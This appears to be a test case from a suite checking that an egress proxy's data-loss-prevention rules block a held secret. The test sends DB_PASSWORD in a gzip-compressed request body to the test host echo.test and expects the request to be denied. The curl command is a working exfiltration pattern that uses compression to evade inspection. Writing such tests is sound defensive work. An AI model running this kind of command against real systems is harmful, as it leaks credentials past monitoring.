# S4: held secret in a gzip-compressed request body
# expect: fail
# audit: sidecar=egress decision=deny rule~dlp:held: host=echo.test
# upstream-must-not-see: DB_PASSWORD
printf '{"note":"x","p":"%s"}' "$DB_PASSWORD" | gzip -c |
  curl -sS -m 10 -f -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' \
    --data-binary @- https://echo.test/allowed/gz
